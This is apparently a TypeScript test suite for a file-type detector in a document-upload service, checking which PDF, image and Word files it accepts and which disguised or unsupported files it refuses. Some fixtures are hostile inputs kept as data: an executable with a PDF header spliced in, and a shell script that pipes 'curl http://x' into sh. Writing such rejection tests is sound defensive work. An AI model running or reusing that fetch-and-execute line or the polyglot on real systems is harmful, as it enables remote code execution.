import { randomBytes } from 'node:crypto';
import { crc32, deflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { FILE_HEAD_BYTES, PDF_HEADER_MAX_OFFSET, detectFileType } from '../../src/dossier/detect-file-type.js';

const ascii = (text: string) => Buffer.from(text, 'latin1');

/**
 * A valid ZIP archive (local headers, central directory, end record) with deflated
 * entries. With `dataDescriptor`, sizes follow each entry's data instead of preceding it,
 * as streaming writers do.
 */
function buildZip(entries: Array<{ name: string; content: Buffer }>, options: { dataDescriptor?: boolean } = {}): Buffer {
  const flags = options.dataDescriptor ? 0x08 : 0;
  const parts: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = ascii(entry.name);
    const data = deflateRawSync(entry.content);
    const crc = crc32(entry.content);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(flags, 6);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(options.dataDescriptor ? 0 : crc, 14);
    local.writeUInt32LE(options.dataDescriptor ? 0 : data.length, 18);
    local.writeUInt32LE(options.dataDescriptor ? 0 : entry.content.length, 22);
    local.writeUInt16LE(name.length, 26);
    const descriptor = Buffer.alloc(options.dataDescriptor ? 16 : 0);
    if (options.dataDescriptor) {
      descriptor.writeUInt32LE(0x08074b50, 0);
      descriptor.writeUInt32LE(crc, 4);
      descriptor.writeUInt32LE(data.length, 8);
      descriptor.writeUInt32LE(entry.content.length, 12);
    }
    const header = Buffer.alloc(46);
    header.writeUInt32LE(0x02014b50, 0);
    header.writeUInt16LE(20, 4);
    header.writeUInt16LE(20, 6);
    header.writeUInt16LE(flags, 8);
    header.writeUInt16LE(8, 10);
    header.writeUInt32LE(crc, 16);
    header.writeUInt32LE(data.length, 20);
    header.writeUInt32LE(entry.content.length, 24);
    header.writeUInt16LE(name.length, 28);
    header.writeUInt32LE(offset, 42);
    central.push(header, name);
    parts.push(local, name, data, descriptor);
    offset += local.length + name.length + data.length + descriptor.length;
  }
  const centralBytes = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(centralBytes.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...parts, centralBytes, end]);
}

const contentTypes = ascii(
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ' +
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
);
const rels = ascii('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Target="word/document.xml"/></Relationships>');
const documentXml = ascii('<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Phương án kinh doanh</w:t></w:r></w:p></w:body></w:document>');

const docxEntries = [
  { name: '[Content_Types].xml', content: contentTypes },
  { name: '_rels/.rels', content: rels },
  { name: 'word/document.xml', content: documentXml },
];

function mzExecutable(): Buffer {
  const bytes = Buffer.alloc(512);
  ascii('MZ').copy(bytes, 0);
  bytes.writeUInt32LE(0x80, 0x3c);
  ascii('PE\0\0').copy(bytes, 0x80);
  ascii('This program cannot be run in DOS mode.').copy(bytes, 0x4e);
  return bytes;
}

describe('detectFileType', () => {
  it('recognises a PDF by its header, also after junk a reader tolerates', () => {
    const pdf = ascii('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n');
    expect(detectFileType(pdf)).toEqual({ kind: 'accepted', mediaType: 'application/pdf', extension: 'pdf', printable: true });
    const withJunk = Buffer.concat([Buffer.alloc(PDF_HEADER_MAX_OFFSET, 0x20), pdf]);
    expect(detectFileType(withJunk)).toMatchObject({ kind: 'accepted', extension: 'pdf' });
    const tooLate = Buffer.concat([Buffer.alloc(PDF_HEADER_MAX_OFFSET + 1, 0x20), pdf]);
    expect(detectFileType(tooLate)).toEqual({ kind: 'refused', reason: 'unsupported' });
  });

  it('recognises JPEG and PNG by their signatures', () => {
    const jpeg = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), ascii('JFIF\0'), randomBytes(64)]);
    expect(detectFileType(jpeg)).toEqual({ kind: 'accepted', mediaType: 'image/jpeg', extension: 'jpg', printable: true });
    const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from([0, 0, 0, 13]), ascii('IHDR'), randomBytes(32)]);
    expect(detectFileType(png)).toEqual({ kind: 'accepted', mediaType: 'image/png', extension: 'png', printable: true });
    // Half a PNG signature is not a PNG.
    expect(detectFileType(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x00, 0x00, 0x00, 0x00]))).toMatchObject({ kind: 'refused' });
  });

  it('recognises a DOCX as a ZIP with a word/ entry, also written with data descriptors', () => {
    const docxType = {
      kind: 'accepted',
      mediaType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      extension: 'docx',
      printable: false,
    };
    expect(detectFileType(buildZip(docxEntries))).toEqual(docxType);
    expect(detectFileType(buildZip(docxEntries, { dataDescriptor: true }))).toEqual(docxType);
    // word/ after 20 KB of other parts is still inside the head.
    const withThumbnail = [docxEntries[0]!, { name: 'docProps/thumbnail.jpeg', content: randomBytes(20_000) }, ...docxEntries.slice(1)];
    expect(detectFileType(buildZip(withThumbnail).subarray(0, FILE_HEAD_BYTES))).toEqual(docxType);
  });

  it('recognises a legacy DOC as an OLE compound file', () => {
    const ole = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)]);
    expect(detectFileType(ole)).toEqual({ kind: 'accepted', mediaType: 'application/msword', extension: 'doc', printable: false });
  });

  it('refuses ZIPs that are not Word files: a spreadsheet, an archive with a PDF inside', () => {
    const xlsx = buildZip([docxEntries[0]!, { name: 'xl/workbook.xml', content: ascii('<workbook/>') }]);
    expect(detectFileType(xlsx)).toEqual({ kind: 'refused', reason: 'unsupported' });
    // A stored entry would put %PDF- within the first KB; the ZIP signature decides first.
    const archive = buildZip([{ name: 'ho-so.pdf', content: ascii('%PDF-1.4 not really') }]);
    expect(detectFileType(archive)).toEqual({ kind: 'refused', reason: 'unsupported' });
  });

  it('refuses programs, also a Windows executable named .pdf that carries %PDF- inside', () => {
    const exe = mzExecutable();
    expect(detectFileType(exe)).toEqual({ kind: 'refused', reason: 'unsupported' });
    const polyglot = Buffer.concat([exe.subarray(0, 200), ascii('%PDF-1.7\n'), exe.subarray(200)]);
    expect(detectFileType(polyglot)).toEqual({ kind: 'refused', reason: 'unsupported' });
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(56)]);
    expect(detectFileType(elf)).toEqual({ kind: 'refused', reason: 'unsupported' });
    expect(detectFileType(ascii('#!/bin/sh\n# %PDF-1.4\ncurl http://x | sh\n'))).toEqual({ kind: 'refused', reason: 'unsupported' });
  });

  it('refuses other images, random bytes and nothing at all', () => {
    const heic = Buffer.concat([Buffer.from([0, 0, 0, 0x18]), ascii('ftypheic'), Buffer.alloc(12)]);
    expect(detectFileType(heic)).toEqual({ kind: 'refused', reason: 'unsupported' });
    expect(detectFileType(ascii('GIF89a\x01\x00\x01\x00'))).toEqual({ kind: 'refused', reason: 'unsupported' });
    // Fixed so the test never depends on luck: no signature and no %PDF- in these bytes.
    const noise = Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 131 + 7) % 251));
    expect(detectFileType(noise)).toEqual({ kind: 'refused', reason: 'unsupported' });
    expect(detectFileType(new Uint8Array(0))).toEqual({ kind: 'refused', reason: 'unsupported' });
    expect(detectFileType(Buffer.from([0xff]))).toEqual({ kind: 'refused', reason: 'unsupported' });
  });
});
